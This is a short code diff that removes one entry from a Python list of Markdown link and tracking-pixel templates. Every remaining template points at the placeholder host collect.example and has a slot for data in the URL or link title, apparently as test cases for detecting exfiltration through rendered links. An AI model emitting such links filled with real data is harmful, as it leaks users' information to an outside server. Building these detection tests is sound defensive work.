@@ -100,7 +100,6 @@ TARGETS = [
     "[here](https://collect.example/p?d={})",
     "![pixel](https://collect.example/{}.png)",
     "![pixel]( <https://collect.example/{}.png> )",
-    '[here](https://collect.example/ "{}")',
     "[here][1]\n\n[1]: https://collect.example/?d={}",
     "https://collect.example/{}",
     "https://collect.example/?q=a&d={}&e=1",
